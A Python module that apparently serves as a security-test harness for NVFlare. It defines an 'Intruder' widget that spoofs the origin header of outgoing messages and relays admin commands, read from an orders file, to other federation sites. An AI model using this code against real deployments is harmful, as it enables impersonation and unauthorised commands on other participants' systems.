"""What a hostile administrator adds to the ``components`` of his own site: it sends NVFlare's own commands to others.

It waits for a file of orders in its kit, carries them out, and writes down what came back.
"""

from __future__ import annotations

import json
import threading
import time
from pathlib import Path
from typing import Any

from nvflare.apis.event_type import EventType
from nvflare.apis.fl_constant import FLContextKey
from nvflare.apis.fl_context import FLContext
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.private.admin_defs import Message as Command
from nvflare.private.defs import CellChannel, new_cell_message
from nvflare.widgets.widget import Widget

ORDERS, ANSWERS = "orders.json", "answers.json"
ORIGIN = "origin"
SECONDS = 3.0


class Intruder(Widget):
    """Sends each order: ``target``, ``topic`` (of the header), ``command`` (of the payload), ``body``, ``job_id``."""

    def handle_event(self, event_type: str, fl_ctx: FLContext) -> None:
        if event_type == EventType.SYSTEM_START:
            cell = fl_ctx.get_engine().get_cell()
            cell.core_cell.add_outgoing_request_filter("*", "*", _pose)
            kit = Path(fl_ctx.get_prop(FLContextKey.WORKSPACE_OBJECT).get_root_dir())
            threading.Thread(target=self._work, args=(cell, kit), daemon=True).start()

    def _work(self, cell: Any, kit: Path) -> None:
        while True:
            time.sleep(0.1)
            if (kit / ORDERS).is_file():
                orders = json.loads((kit / ORDERS).read_text())
                (kit / ORDERS).unlink()
                answers = {name: _carried_out(cell, order) for name, order in orders.items()}
                part = kit / f"{ANSWERS}.part"
                part.write_text(json.dumps(answers))
                part.rename(kit / ANSWERS)


def _pose(message: Any) -> None:
    """Send in another's name, where an order says so."""
    if origin := message.get_header(ORIGIN):
        message.set_header(MessageHeaderKey.ORIGIN, origin)


def _carried_out(cell: Any, order: dict[str, str]) -> str:
    command = Command(topic=order.get("command", order["topic"]), body=order.get("body", ""))
    if "job_id" in order:
        command.set_header("job_id", order["job_id"])
    reply = cell.send_request(
        target=order["target"],
        channel=CellChannel.CLIENT_MAIN,
        topic=order["topic"],
        request=new_cell_message({ORIGIN: order["origin"]} if "origin" in order else {}, command),
        timeout=SECONDS,
        optional=True,
    )
    body = reply.payload.body if isinstance(reply.payload, Command) else reply.payload
    return f"{reply.get_header(MessageHeaderKey.RETURN_CODE)}: {body}"
